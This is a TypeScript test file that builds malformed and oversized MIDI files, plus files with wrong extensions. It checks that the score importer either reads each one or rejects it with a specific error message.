  ok("midi-tempo-zero.mid", "a tempo of 0 microseconds per quarter", () => smf([[0x00, 0xff, 0x51, 0x03, 0, 0, 0, ...scale().slice(7)]], { format: 0 }));
  ok("midi-tempo-huge.mid", "the slowest tempo MIDI can say (3.58 bpm) and 20,000 tempo changes", () => {
    const ev: number[] = [0x00, 0xff, 0x51, 0x03, 0xff, 0xff, 0xff];
    for (let i = 0; i < 20_000; i++) ev.push(0x01, 0xff, 0x51, 0x03, i % 2 ? 0x01 : 0x0f, 0x00, 0x00);
    return smf([[...ev, ...scale().slice(15)]], { format: 0 });
  });
  ok("midi-bad-meta-values.mid", "time signatures 0/1 and x/2^255, a key of 100 sharps", () =>
    smf([[0x00, 0xff, 0x58, 0x04, 0x00, 0x00, 0x18, 0x08, 0x00, 0xff, 0x58, 0x04, 0x03, 0xff, 0x18, 0x08, 0x00, 0xff, 0x59, 0x02, 100, 0x07, ...scale().slice(15)]], { format: 0 }));
  add("midi-no-tracks.mid", "a header declaring no tracks", "error", /no notes|no tracks/, () => smf([], { declared: 0 }));
  add("midi-missing-tracks.mid", "a header declaring 5 tracks, one present", "error", /declares 5 tracks/, () => smf([scale()], { declared: 5 }));
  add("midi-no-notes.mid", "tracks with tempo and meter only", "error", /no notes/, () => smf([[...scale(0)]], { format: 0 }));
  add("midi-truncated.mid", "a file cut off inside its track", "error", /cut short/, () => simpleMidi().subarray(0, 40));
  add("midi-header-only.mid", "'MThd' and nothing else", "error", /cut short/, () => utf8("MThd"));
  add("midi-chunk-too-long.mid", "a track chunk claiming 4 GiB", "error", /cut short/, () => concatBytes([smf([], { declared: 1, format: 0 }), chunk("MTrk", scale(), 0xffffffff)]));
  add("midi-chunk-too-short.mid", "a track chunk 5 bytes shorter than its events", "error", /track 1|chunk/, () => {
    const t = scale();
    return concatBytes([smf([], { declared: 1, format: 0 }), chunk("MTrk", t, t.length - 5)]);
  });
  add("midi-chunk-lies-into-next.mid", "a first track claiming less, so the second starts mid-event", "error", /track|chunk/, () => {
    const t = scale();
    return concatBytes([smf([], { declared: 2 }), chunk("MTrk", t, 10), chunk("MTrk", scale())]);
  });
  add("midi-header-length-lies.mid", "an MThd length of 65,535", "error", /cut short/, () => concatBytes([utf8("MThd"), new Uint8Array([0, 0, 0xff, 0xff, 0, 0, 0, 1, 1, 0xe0]), chunk("MTrk", scale())]));
  ok("midi-alien-chunk.mid", "an unknown chunk between header and track (skipped, as the standard says)", () => concatBytes([smf([], { declared: 1, format: 0 }), chunk("XFIH", [1, 2, 3, 4, 5]), chunk("MTrk", scale())]));
  add("midi-smpte.mid", "SMPTE time division", "error", /SMPTE/, () => smf([scale()], { format: 0, division: 0xe728 }));
  add("midi-division-zero.mid", "zero ticks per quarter note", "error", /0 ticks per quarter/, () => smf([scale()], { format: 0, division: 0 }));
  add("midi-format-2.mid", "format 2 (independent patterns)", "error", /format 2/, () => smf([scale(), scale()], { format: 2 }));
  add("midi-bad-status.mid", "status byte 0xF4, which no file may hold", "error", /0xF4/, () => smf([[0x00, 0x90, 60, 80, 0x10, 0xf4, ...EOT]], { format: 0 }));
  add("midi-data-byte-high.mid", "a key number of 200", "error", /data byte|above 127/, () => smf([[0x00, 0x90, 200, 80, 0x10, 0x80, 200, 0, ...EOT]], { format: 0 }));
  add("midi-long-delta.mid", "a delta time of six bytes", "error", /delta time/, () => smf([[0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, 0x90, 60, 80, ...EOT]], { format: 0 }));
  add("midi-far-future.mid", "a note 200,000 beats in", "error", /beats/, () => {
    const ev: number[] = [0x00, 0x90, 60, 80, 0x60, 0x80, 60, 0];
    for (let i = 0; i < 100; i++) ev.push(...vlq(2000 * 480), 0xff, 0x01, 0x00);
    return smf([[...ev, 0x00, 0x90, 62, 80, 0x60, 0x80, 62, 0, ...EOT]], { format: 0 });
  });
  add("midi-sysex-overrun.mid", "a sysex claiming more bytes than the track has", "error", /track 1|chunk/, () => smf([[0x00, 0xf0, ...vlq(100_000), 1, 2, 3, ...EOT]], { format: 0 }));
  add("midi-huge-text.mid", "a 2 MB text event", "error", /text event/, () => smf([[0x00, 0xff, 0x01, ...vlq(2_000_000), ...new Uint8Array(2_000_000).fill(0x41), ...scale()]], { format: 0 }));
  add("midi-thousand-tracks.mid", "1,000 tracks with a note each", "error", /1000 tracks with notes; Tutti reads at most 256/, () =>
    smf(Array.from({ length: 1000 }, (_, i) => [0x00, 0x90 | i % 9, 60, 80, 0x83, 0x60, 0x80 | i % 9, 60, 0, ...EOT])));
  add("midi-too-many-notes.mid", "600,000 notes", "error", /600000 notes; Tutti reads at most 500000/, () => {
    const ev = new Uint8Array(600_000 * 8 + 4);
    let at = 0;
    for (let i = 0; i < 600_000; i++) {
      ev.set([0x00, 0x90, 60 + (i % 12), 80, 0x01, 0x80, 60 + (i % 12), 0], at);
      at += 8;
    }
    ev.set(EOT, at);
    return smf([ev], { format: 0 });
  });
  ok("midi-drums-only.mid", "percussion only, channel 10", () => smf([scale(8, 480, 9)], { format: 0 }));
  add("midi-garbage.mid", "random bytes named .mid", "error", /not a MusicXML, \.mxl or MIDI file|not a MIDI file/, () => garbage(4096, 5));
  add("midi-empty.mid", "an empty .mid", "error", /the file is empty/, () => new Uint8Array(0));
}

/** Wrong extensions: content decides. */
function wrongExtensionCases({ add }: Group): void {
  const ok = okCase(add);
  ok("wrong-ext-midi.musicxml", "a MIDI file named .musicxml", simpleMidi);
  ok("wrong-ext-xml.mid", "a MusicXML file named .mid", () => utf8(plain({ title: "Named mid" })));
  ok("wrong-ext-zip.musicxml", "an .mxl named .musicxml", () => mxl("score.xml", [{ name: "score.xml", data: XML }]));
  ok("wrong-ext-xml.mxl", "a MusicXML file named .mxl", () => utf8(plain({ title: "Named mxl" })));
}

/** Adds a case that must be read without harm. */
function okCase(add: Group["add"]): (name: string, what: string, bytes: () => Uint8Array) => void {
  return (name, what, bytes) => add(name, what, "ok", undefined, bytes);
}
